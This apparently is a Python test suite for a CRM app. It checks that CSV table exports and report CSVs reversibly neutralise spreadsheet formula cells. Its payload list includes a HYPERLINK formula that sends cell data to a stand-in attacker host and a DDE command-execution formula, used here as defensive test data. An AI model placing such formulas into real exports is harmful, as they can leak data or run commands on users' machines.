"""CSV injection: every cell a spreadsheet would run as a formula is neutralised in every CSV the app writes
(table exports and report CSVs), reversibly, and nothing else is changed."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from crm_desktop import cli
from crm_desktop.csv_safe import DANGEROUS_STARTS, neutralise, read_rows, restore, write_rows
from crm_desktop.exporting import write_csv
from crm_desktop.services import contacts
from crm_desktop.services import table_queries as tq

PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1+2", "'=already quoted", "-", "=", "@"]


def dangerous(cell: str) -> bool:
    return cell.startswith(DANGEROUS_STARTS)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30))
def test_neutralise_is_safe_and_reversible(text):
    cell = neutralise(text)
    assert not dangerous(cell)
    assert restore(cell) == text
    if not dangerous(text) and not text.startswith("'"):
        assert cell == text  # ordinary text is untouched


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=12)), min_size=1, max_size=4),
                min_size=1, max_size=5))
def test_rows_round_trip_through_a_real_csv_parser(rows):
    text = write_rows(rows)
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert all(not dangerous(cell) for row in parsed for cell in row)
    assert read_rows(text) == [["" if c is None else c for c in row] for row in rows]


def test_table_export_and_report_csv_neutralise_contact_fields(db, admin, tmp_path, crm_url, monkeypatch):
    for i, payload in enumerate(PAYLOADS):
        db.write(lambda s, i=i, p=payload: contacts.create_contact(s, admin, {
            "type": "owner", "email": f"evil{i}@example.com", "firstName": p.strip() or "x", "businessName": p,
            "city": p}))
    table = tq.table("contacts")
    with db.read() as s:
        rows = [list(r.values()) for r in tq.iter_rows(s, table, tq.TableQuery())]
    path = tmp_path / "contacts.csv"
    write_csv(path, list(table.fields), rows)
    monkeypatch.setenv("CRM_DATABASE_URL", crm_url)
    report = tmp_path / "owners.csv"
    assert cli.main(["report", "owners", "--format", "csv", "--output", str(report)]) == 0
    for written in (path, report):
        with open(written, encoding="utf-8-sig", newline="") as fh:
            cells = [c for row in csv.reader(fh) for c in row]
        offenders = [c for c in cells if dangerous(c)]
        assert not offenders, (written.name, offenders)
    for written in (path, report):
        with open(written, encoding="utf-8-sig", newline="") as fh:
            restored = {restore(c) for row in csv.reader(fh) for c in row}
        assert "=1+2" in restored and "@SUM(A1:A2)" in restored, written.name  # the payloads were there
    with open(path, encoding="utf-8-sig", newline="") as fh:
        restored = {restore(c) for row in csv.reader(fh) for c in row}
    assert {p.strip() for p in PAYLOADS} - {""} <= {r.strip() for r in restored}
